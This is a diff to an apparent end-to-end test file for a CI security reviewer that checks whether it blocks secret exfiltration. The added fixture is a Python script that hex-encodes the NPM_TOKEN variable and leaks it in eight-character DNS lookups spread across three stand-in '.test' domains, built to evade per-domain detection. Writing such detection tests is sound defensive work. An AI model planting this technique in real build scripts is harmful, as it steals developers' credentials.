@@ -3,7 +3,8 @@
 One real `cujo review` per case, as in test_detection_e2e.py: the plain payload (the
 decoy in one query), the same decoy hex-encoded eight characters per query from a shell
 loop (a process per query) at install and at test time, a tunnel of random bytes with
-no decoy, and a test suite that looks up a few dozen ordinary names hundreds of times.
+no decoy (and, in the same review's tests, the decoy in pieces from one process under
+three parent domains), and a test suite that looks up a few dozen ordinary names hundreds of times.
 Every name is a `.test` name the logging resolver answers itself.
 """
 
@@ -78,6 +79,22 @@ print("sent", len(data) // 16)
 PY
 """
 
+# Eight hex characters a query from one process, each piece under the next of three
+# parent domains: no domain sees a slice, only the process's stream across them.
+ACROSS = """\
+python - <<'PY'
+import os, socket
+data = os.environ["NPM_TOKEN"].encode().hex()
+zones = ["t.one.exfil.test", "t.two.evil.test", "t.three.other.test"]
+for n, i in enumerate(range(0, len(data), 8)):
+    try:
+        socket.getaddrinfo(f"{data[i:i + 8]}.{zones[n % 3]}", 443)
+    except OSError:
+        pass
+print("sent", n + 1)
+PY
+"""
+
 # A suite that resolves a few dozen ordinary names, hundreds of times.
 BENIGN = """\
 python - <<'PY'
@@ -100,7 +117,8 @@ CASES: dict[str, tuple[dict[str, str], dict[str, str]]] = {
     "plain": (project(), {"ci/install.sh": PLAIN}),
     "chunked-install": (project(), {"ci/install.sh": CHUNKED}),
     "chunked-test": (project(), {"ci/test.sh": CHUNKED}),
-    "tunnel-install": (project(), {"ci/install.sh": TUNNEL}),
+    # One review, two attacks: the tunnel at install, the pieces across domains in tests.
+    "tunnel-install": (project(), {"ci/install.sh": TUNNEL, "ci/test.sh": ACROSS}),
     "benign-test": (project(), {"ci/test.sh": BENIGN}),
 }
 
@@ -153,6 +171,24 @@ def test_a_tunnel_of_random_bytes_at_install_blocks(reviews: Reviews) -> None:
     marked = [e for e in review.report("install")["egress"] if e.get("dns_tunnel")]
     assert marked
     assert all(e["host"].endswith(".t.exfil.test") for e in marked)
+
+
+def test_a_decoy_in_pieces_under_three_parent_domains_from_one_process_blocks(
+    reviews: Reviews,
+) -> None:
+    review = reviews.get("tunnel-install")
+    assert_blocked_by(review, "decoy-egress")
+    items = sent(review, "tests")
+    assert items, review.report("tests")["egress"]
+    assert {d for e in items for d in e["decoy_seen"]} == {"NPM_TOKEN"}
+    assert "dns:joined+hex" in items[0]["decoy_where"]
+    hit = next(f for f in findings(review, "decoy-egress") if f["check"] == "tests")
+    assert hit["severity"] == "critical", hit
+    # Every query held eight characters, and no parent domain saw two pieces in a row.
+    zones = ("one.exfil.test", "two.evil.test", "three.other.test")
+    pieces = [e for e in review.report("tests")["egress"] if e["host"].endswith(zones)]
+    assert {e["host"].split(".", 2)[-1] for e in pieces} == set(zones)
+    assert all(len(e["host"].split(".")[0]) == 8 for e in pieces)
 
 
 def test_a_suite_that_looks_up_a_few_dozen_names_often_is_no_tunnel(reviews: Reviews) -> None:
